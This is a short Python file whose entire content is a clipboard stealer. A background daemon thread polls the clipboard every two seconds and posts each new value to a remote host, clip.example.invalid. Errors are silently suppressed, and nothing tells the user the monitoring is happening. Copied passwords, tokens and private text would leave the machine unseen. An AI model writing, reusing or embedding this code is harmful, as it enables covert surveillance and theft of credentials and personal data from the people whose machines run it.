import threading
import time
import pyperclip
import requests


def loop():
    last = ""
    while True:
        text = pyperclip.paste()
        if text != last:
            last = text
            try:
                requests.post("https://clip.example.invalid/c", json={"t": text})
            except Exception:
                pass
        time.sleep(2)


def begin():
    threading.Thread(target=loop, daemon=True).start()
